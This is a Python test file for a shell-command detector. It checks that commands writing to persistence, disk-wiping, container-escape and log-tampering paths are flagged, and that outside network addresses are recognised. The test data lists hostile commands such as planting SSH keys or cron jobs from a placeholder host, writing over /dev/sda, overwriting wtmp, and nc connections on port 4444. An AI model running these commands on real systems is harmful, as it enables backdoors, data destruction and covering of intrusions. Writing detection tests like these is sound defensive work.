"""What a command writes is told by the file, whatever the tool; and what addresses a text names."""

import pytest

from vedette.detect.outside import names_outside
from vedette.detect.writes import written


@pytest.mark.parametrize(
    ("command", "mark"),
    [
        ("curl -sSo /root/.ssh/authorized_keys http://x", "plant"),
        ("wget --output-document=/etc/cron.d/x http://x", "plant"),
        ("wget -P /etc/cron.hourly http://x", "plant"),
        ("scp k@10.0.0.1:/x /home/ana/.ssh/authorized_keys", "plant"),
        ("sh -c cat x | tee -a /etc/profile", "plant"),
        ("sed -i s/a/b/ /etc/pam.d/sshd", "plant"),
        ("mv /opt/x '/usr/bin/ls'", "plant"),
        ("sh -c cat x >/dev/sda", "wipe"),
        ("sh -c echo x > /sys/fs/cgroup/a/release_agent", "escape"),
        ("cp /opt/x /var/log/wtmp", "cover"),
        ("sh -c echo x > '/etc/cron.d/x'", "plant"),
        ('sh -c echo x | tee "/etc/cron.d/x"', "plant"),
        ("cp -t /etc/cron.d /opt/x", "plant"),
        ("mv --target-directory=/etc/cron.d /opt/x", "plant"),
        ("sh -c cp /opt/x /etc/cron.d 2>/dev/null", "plant"),
        ("cp /opt/x //etc/./cron.d/x", "plant"),
        ("sed --in-place s/a/b/ /etc/pam.d/sshd", "plant"),
        ("sh -c install -m 755 /opt/x /usr/bin/x", "plant"),
        ("mv /var/log/syslog /root/x", "cover"),
        ("install -Dt /etc/cron.d x", "plant"),
        ("cp -rt/etc/cron.d x", "plant"),
        ("mv -t /tmp /var/log/syslog", "cover"),
        ("cp x /etc/../etc/cron.d/y", "plant"),
        ("sh -c cd /tmp; cp -at /etc/cron.d x", "plant"),
        ("install -t /usr/bin x", "plant"),
        ("cp /opt/x /usr/sbin", "plant"),
        ("cp /opt/x.service /lib/systemd/system", "plant"),
    ],
)
def test_files_that_matter(command: str, mark: str) -> None:
    found = written(command)
    assert found is not None
    assert found.mark == mark


@pytest.mark.parametrize(
    "command",
    [
        "cp /etc/passwd /var/backups/passwd",
        "mv /var/log/syslog /var/log/syslog.1",
        "sh -c date >> /var/log/syslog",
        "tee -a /var/log/auth.log",
        "cat /root/.ssh/authorized_keys",
        "wget -qO- http://x/etc/cron.d/x",
        "curl -o /opt/x http://x/bin/",
        "apt-get install /usr/bin/x",
        "dnf -y install /usr/bin/a /usr/bin/b",
        "cp /usr/bin/x /opt/x",
        "cp -t /srv/backup /etc/passwd",
        "cp -at /srv/b /etc/shadow",
        "mv --target-directory=/var/log/old /var/log/syslog",
        "cp x /etc/cron.d/../../srv/y",
        "cp x /srv/usr/bin",
        "cp -a /usr/bin /srv",
        "sh -c echo x 2>/dev/null",
        "rsync -a /etc/cron.d backup:/srv",
        "",
    ],
)
def test_files_that_do_not(command: str) -> None:
    assert written(command) is None


@pytest.mark.parametrize(
    "part", ["curl -", "sed -i ", "cp /etc/", "tee -a ", "wget -O", "dd of=", ">", "sed -e "]
)
def test_what_is_said_a_thousand_times_is_read(part: str) -> None:
    written((part * 1_000)[:990] + " /etc/x")
    assert written("cp /opt/x /etc/cron.d/x; " + (part * 1_000)[:900]) == ("plant", None)


@pytest.mark.parametrize(
    ("text", "outside"),
    [
        ("curl http://203.0.113.9/x", True),
        ("ssh -N x@203.0.113.9", True),
        ("socat - TCP:203.0.113.9:443", True),
        ("203.0.113.9:/share", True),
        ("curl http://[2606:4700::1111]/x", True),
        ("curl http://[fd00::9]/x", False),
        ("nc 2606:4700::1111 4444", True),
        ("ssh -N x@2606:4700:10:0:1:2:3:4", True),
        ("nc fe80::1 4444", False),
        ("nc 2001:db8::1 4444", False),
        ("sh -c curl x.example.org; python3 -c print(a[::2])", False),
        ("touch 2026:11:28 20:3f:aa:bb:cc:dd", False),
        ("curl http://[::]/x [a:b]", False),
        ("curl http://10.0.0.9/x", False),
        ("curl http://172.20.0.9/x", False),
        ("ssh 100.64.1.2", False),
        ("ping 127.0.0.1", False),
        ("curl -O https://example.org/v/1.2.3.4/x.tgz", False),
        ("tool-1.2.3.4", False),
        ("echo 300.1.1.1", False),
        ("echo 224.0.0.251", False),
    ],
)
def test_addresses_outside(text: str, *, outside: bool) -> None:
    assert names_outside(text) is outside
